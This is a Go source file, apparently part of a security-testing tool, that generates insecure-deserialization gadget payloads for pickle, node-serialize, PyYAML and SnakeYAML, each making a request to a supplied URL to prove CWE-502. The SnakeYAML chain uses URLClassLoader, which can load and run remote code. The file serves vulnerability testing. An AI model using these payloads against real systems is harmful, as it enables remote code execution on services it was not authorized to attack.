package scenario

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// Serialised objects that do nothing but call an address (argument url), in the
// formats that name code. They prove CWE-502 without doing harm.
func init() {
	for name, write := range map[string]func(url string) string{
		// A pickle of protocol 0 whose reduction calls urllib.request.urlopen, in base64.
		"gadget.pickle": func(url string) string {
			return base64.StdEncoding.EncodeToString([]byte("curllib.request\nurlopen\n(V" + url + "\ntR."))
		},
		"gadget.node": nodeGadget,
		"gadget.node64": func(url string) string {
			return base64.StdEncoding.EncodeToString([]byte(nodeGadget(url)))
		},
		"gadget.pyyaml": func(url string) string {
			return "!!python/object/apply:urllib.request.urlopen [\"" + url + "\"]"
		},
		"gadget.snakeyaml": func(url string) string {
			return "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + url + "\"]]]]"
		},
	} {
		funcs[name] = func(a map[string]string) (any, error) {
			if !strings.HasPrefix(a["url"], "http") || strings.ContainsAny(a["url"], "\"'\\ \n") {
				return nil, fmt.Errorf("%s: url %q: want an address", name, a["url"])
			}
			return write(a["url"]), nil
		}
	}
	// text.after: text, last: what comes after the last occurrence of it.
	funcs["text.after"] = func(a map[string]string) (any, error) {
		return a["text"][strings.LastIndex(a["text"], a["last"])+len(a["last"]):], nil
	}
}

// nodeGadget is a function of node-serialize that calls itself.
func nodeGadget(url string) string {
	return `{"crenel":"_$$ND_FUNC$$_function(){require('http').get('` + url + `').on('error',function(){})}()"}`
}
